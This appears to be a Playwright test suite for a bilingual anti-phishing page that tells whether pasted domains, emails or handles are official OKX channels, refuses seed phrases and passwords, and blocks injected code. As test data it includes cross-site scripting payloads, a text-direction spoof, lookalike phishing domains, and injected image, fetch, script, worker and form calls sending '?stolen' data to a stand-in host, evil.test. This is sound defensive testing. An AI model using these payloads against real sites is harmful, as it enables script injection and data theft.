"""Is this really them? What a reader sees after pasting something, and what never leaves the tab."""

import gzip
import json

import pytest
from playwright.sync_api import expect

from tests.browser.conftest import NewReader
from tests.browser.reader import DESK, PHONE, Reader
from tests.site.checkout import built_guide

WORDS = {
    "": {"listed": "在名单上", "lookalike": "看起来像，但不是", "unlisted": "不在名单上", "unreadable": "读不出来"},
    "en/": {
        "listed": "On our list",
        "lookalike": "It looks like it, but it is not",
        "unlisted": "Not on our list",
        "unreadable": "We cannot read this",
    },
}
PASTED = {"listed": "okx.com", "lookalike": "0kx-support.net", "unlisted": "somebody.example", "unreadable": "javascript:alert(1)"}
SEED = "abandon ability able about above absent absorb abstract absurd abuse access accident"


def paste(reader: Reader, text: str) -> None:
    reader.page.locator("channel-check textarea[name=value]").fill(text)


@pytest.mark.parametrize("root", WORDS)
def test_each_verdict_is_a_word_and_a_way_on(new_reader: NewReader, root: str) -> None:
    reader = new_reader(viewport=PHONE)
    reader.open(f"{root}verify/")
    for verdict, text in PASTED.items():
        paste(reader, text)
        answer = reader.page.locator("[data-verdict]")
        expect(answer).to_have_attribute("data-verdict", verdict)
        expect(answer).to_contain_text(WORDS[root][verdict])
    assert reader.page.evaluate("document.documentElement.scrollWidth") <= 360
    paste(reader, PASTED["lookalike"])
    answer = reader.page.locator("[data-verdict=lookalike]")
    expect(answer).to_have_attribute("data-platform", "okx")
    assert answer.locator("[data-value] mark").all_text_contents() == ["0", "-support", "net"]
    answer.locator("a").last.click()
    reader.page.wait_for_url(f"{reader.base}{root}platforms/okx/")
    assert reader.complaints == []


def test_what_is_only_reported_is_no_tick(reader: Reader) -> None:
    reader.open("en/verify/")
    paste(reader, "96110")
    answer = reader.page.locator("[data-verdict=listed]")
    expect(answer).to_contain_text("Only reports say so")
    expect(answer).not_to_contain_text("The official pages name it")
    assert answer.locator(".answer__source [data-word=source]").inner_text()
    paste(reader, "support@okx.com")
    assert reader.page.locator("[data-verdict=listed] [data-word=day]").inner_text() == "2024-09-17"


def test_every_thing_in_a_message_is_judged_and_the_words_of_thieves_are_named(reader: Reader) -> None:
    reader.open("en/verify/")
    paste(reader, "Your account will be suspended. Log in at okx-verify.com or ask @okxhelper, see okx.com. Tell me the code.")
    expect(reader.page.locator("[data-answer]")).to_have_count(4)
    assert reader.page.locator("[data-verdict]").evaluate_all("(all) => all.map((one) => one.dataset.verdict)") == [
        "lookalike",
        "lookalike",
        "listed",
    ]
    expect(reader.page.locator("[data-sign] a")).to_have_attribute("href", "../scams/fake-support/")


@pytest.mark.parametrize("secret", [SEED, f"please help {SEED} thanks", "0x" + "4f3c2d1b" * 8, "my password is Tr0ub4dor&3"])
def test_secret_is_taken_out_of_the_box_and_goes_nowhere(reader: Reader, secret: str) -> None:
    reader.open("en/verify/")
    requests: list[str] = []
    reader.page.on("request", lambda request: requests.append(request.url))
    paste(reader, secret)
    expect(reader.page.locator("[data-refused]")).to_be_visible()
    expect(reader.page.locator("channel-check textarea")).to_have_value("")
    assert reader.page.locator("[data-verdict]").count() == 0
    assert not [url for url in requests if not url.endswith((".js", ".svg"))]
    assert (
        reader.page.evaluate("JSON.stringify([{...localStorage}, {...sessionStorage}, location.search, location.hash])") == '[{},{},"",""]'
    )


@pytest.mark.parametrize(("address", "root"), [("", ""), ("en/platforms/okx/", "en/")])
def test_box_elsewhere_takes_what_was_pasted_along_in_the_tab(new_reader: NewReader, address: str, root: str) -> None:
    reader = new_reader(viewport=PHONE)
    reader.open(address)
    reader.page.locator(".paste__box").fill("https://okx.com@evil.test/")
    reader.page.keyboard.press("Enter")
    reader.page.wait_for_url(f"{reader.base}{root}verify/")
    expect(reader.page.locator("[data-verdict=lookalike]")).to_contain_text("evil.test")
    assert "okx" not in reader.page.url
    assert reader.page.evaluate("sessionStorage.length") == 0
    assert reader.complaints == []


def test_hostile_text_stays_text(reader: Reader) -> None:
    reader.open("en/verify/")
    for text in (
        "<img src=x onerror=alert(1)>",
        "https://okx.com/<script>alert(1)</script>",
        "\u202emoc.xko",
        "a" * 20_000,
        "@<b>okx</b>",
        "okx.com'\"><svg onload=alert(1)>",
    ):
        paste(reader, text)
        reader.page.wait_for_timeout(50)
        assert reader.page.locator("channel-check :is(img, script, svg[onload])").count() == 0
    assert reader.complaints == []


@pytest.mark.parametrize("root", ["", "en/"])
def test_without_scripts_the_rules_and_the_whole_list_stand_there(new_reader: NewReader, root: str) -> None:
    reader = new_reader(java_script_enabled=False, viewport=DESK)
    reader.open(f"{root}verify/")
    assert not reader.page.locator("channel-check").is_visible()
    section = reader.page.locator("details.part:has(#platform-okx)")
    section.locator("h2").click()
    assert section.locator("text=okx.com").first.is_visible()
    assert section.locator("li", has_text="support@okx.com").first.is_visible()
    reader.open(root)
    assert not reader.page.locator(".paste").is_visible()
    assert reader.page.locator(".paste-link a").is_visible()


def test_list_that_does_not_come_is_said_and_nothing_is_judged(reader: Reader) -> None:
    reader.page.route("**/known.json", lambda route: route.abort())
    reader.open("en/verify/")
    expect(reader.page.locator("channel-check [data-failed]")).to_be_visible()
    paste(reader, "okx.com")
    assert reader.page.locator("[data-answer]").count() == 0


def test_message_is_judged_also_where_the_guard_of_secrets_does_not_come(reader: Reader) -> None:
    reader.page.route("**/secrets.js", lambda route: route.abort())
    reader.open("en/verify/")
    paste(reader, "Please log in now at the address that stands here to save your money okx-verify.com")
    expect(reader.page.locator("[data-verdict]")).to_have_attribute("data-verdict", "lookalike")


def test_check_is_there_for_other_programs_under_an_address_that_stays(reader: Reader) -> None:
    reader.open("en/")
    verdict = reader.page.evaluate(
        """async () => {
          const { check } = await import("./assets/channel-check.js");
          const list = await (await fetch("./assets/known.json")).json();
          return check("okx.com.evil.test", list).verdict;
        }"""
    )
    assert verdict == "lookalike"


# ── What the policy stops ─────────────────────────────────────────────────────


def test_injected_code_neither_runs_nor_sends_anything(reader: Reader) -> None:
    """As if somebody had got a text of his into a page: by a link, a form, a picture, a script, a worker or a request."""
    reader.open("en/issues/account-frozen/")
    tried = reader.page.evaluate(
        """async () => {
          const stopped = [];
          addEventListener("securitypolicyviolation", (event) => stopped.push(event.effectiveDirective));
          const add = (name, about) => document.body.append(Object.assign(document.createElement(name), about));
          const attempt = async (act) => { try { await act(); } catch { stopped.push("thrown"); } };
          add("img", { src: "https://evil.test/?stolen" });
          add("iframe", { src: "https://evil.test/" });
          await attempt(() => { add("object", { data: "https://evil.test/" }); });
          add("link", { rel: "stylesheet", href: "https://evil.test/a.css" });
          await attempt(() => fetch("https://evil.test/?stolen"));
          await attempt(() => { document.body.innerHTML += "<img src=x onerror='window.owned = 1'>"; });
          await attempt(() => { add("script", { src: "https://evil.test/a.js" }); });
          await attempt(() => { add("script", { textContent: "window.owned = 1" }); });
          await attempt(() => { new Worker("https://evil.test/a.js"); });
          const form = Object.assign(document.createElement("form"), { action: "https://evil.test/", method: "post" });
          document.body.append(form);
          form.submit();
          await new Promise((done) => setTimeout(done, 400));
          return { stopped, owned: window.owned ?? 0 };
        }"""
    )
    assert tried["owned"] == 0
    assert {"img-src", "frame-src", "style-src-elem", "connect-src", "form-action", "require-trusted-types-for"} <= set(tried["stopped"])
    assert tried["stopped"].count("thrown") >= 4
    assert [url for url in reader.abroad if "evil" in url and not url.startswith("https://evil.test/")] == []
    assert reader.page.url.endswith("en/issues/account-frozen/")


def test_list_and_code_are_small() -> None:
    """30 KB for both, packed: what the answer waits for on a slow line."""
    folder = built_guide().folder
    scripts = [
        *folder.glob("assets/elements/channel-check/channel-check.*.js"),
        *folder.glob("assets/elements/channel-check/channel-check.*.css"),
    ]
    for known in (folder / "assets/known.json", folder / "en/assets/known.json"):
        assert json.loads(known.read_text(encoding="utf-8"))["values"]
        assert sum(len(gzip.compress(file.read_bytes())) for file in (known, *scripts)) <= 30_000
